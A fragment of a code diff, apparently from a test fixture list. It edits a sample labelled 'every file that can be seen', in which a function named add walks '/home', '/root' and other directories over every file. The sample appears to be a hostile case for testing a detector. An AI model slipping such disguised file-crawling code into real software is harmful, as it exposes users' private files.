@@ -33,7 +33,7 @@ def add(a, b):
             ("every file that can be seen", """
 import os
 def add(a, b):
-    for top in (".", "/tmp", "/work", "/home", "/root"):
+    for top in (".", "/tmp", "/srv", "/home", "/root"):
         for folder, names, files in os.walk(top):
             names[:] = [n for n in names if n not in ("lib", "lib64", ".venv")]
             for name in files:
